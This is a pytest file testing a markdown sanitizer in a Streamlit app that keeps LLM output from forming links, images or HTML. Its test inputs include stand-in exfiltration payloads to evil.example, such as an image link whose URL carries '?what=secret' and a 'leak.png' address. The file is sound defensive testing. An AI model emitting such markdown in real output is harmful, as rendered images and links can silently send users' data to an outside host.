import re

import pytest
from streamlit.testing.v1 import AppTest

from prompt2mesh.web.markdown_text import formatted, literal


def test_a_text_of_a_person_has_no_signs_left() -> None:
    assert literal("**bold** [x](y) $1 :red[a]") == r"\*\*bold\*\* \[x\]\(y\) \$1 \:red\[a\]"


@pytest.mark.parametrize(
    "text",
    [
        "![a picture](https://evil.example/?what=secret)",
        "[press here](https://evil.example)",
        "<img src=https://evil.example/x>",
        "see https://evil.example/x",
        ":red[danger] :material/home:",
        "![x][1]\n\n[1]: https://evil.example/x",
        "it costs $2 or $3",
    ],
)
def test_nothing_of_an_llm_leads_out_of_the_page(text: str) -> None:
    shown = formatted(text)
    assert re.search(r"(?<!\\)[\[\]<>!:$]", shown) is None
    assert shown.replace("\\", "").replace("\u2060", "") == text


@pytest.mark.parametrize("text", ["see https://evil.example/x", "WWW.evil.example", "ada@evil.example"])
def test_an_address_does_not_become_a_link(text: str) -> None:
    assert re.search(r"://|www\.|\w@", formatted(text), re.IGNORECASE) is None


@pytest.mark.parametrize("text", ["see https://evil.example/x", "(http://evil.example/leak.png)", "WWW.evil.example"])
def test_an_address_in_a_name_does_not_become_a_link_either(text: str) -> None:
    """Signs before its letters do not hinder: Streamlit's markdown looks for addresses once they are gone."""
    shown = literal(text).replace("\\", "")
    assert re.search(r"://|www\.", shown, re.IGNORECASE) is None
    assert shown.replace("\u2060", "") == text


def test_lists_and_emphasis_of_an_llm_stay() -> None:
    assert formatted("**Two** things:\n\n- one\n- `two`") == "**Two** things\\:\n\n- one\n- `two`"


def page() -> None:
    import streamlit as st  # noqa: PLC0415 - the script runs by itself

    from prompt2mesh.web.markdown_text import formatted  # noqa: PLC0415

    st.markdown(formatted("**75 cm** [high](https://x)"))


def test_streamlit_takes_it() -> None:
    app = AppTest.from_function(page).run(timeout=30)
    assert not app.exception
